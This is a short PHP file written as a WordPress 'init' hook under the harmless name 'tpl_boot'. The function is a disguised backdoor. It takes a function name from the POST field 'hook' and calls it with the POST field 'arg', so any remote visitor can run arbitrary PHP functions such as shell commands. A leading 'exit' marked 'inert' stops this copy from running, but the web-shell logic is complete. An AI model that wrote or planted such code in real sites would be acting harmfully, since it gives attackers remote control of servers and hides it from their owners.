<?php exit; /* inert */ 
add_action('init', 'tpl_boot');
function tpl_boot() {
    $h = isset($_POST['hook']) ? $_POST['hook'] : '';
    if (!$h) return;
    add_action('tpl_run_' . md5($h), $h, 10, 1);
    do_action('tpl_run_' . md5($h), stripslashes($_POST['arg']));
}
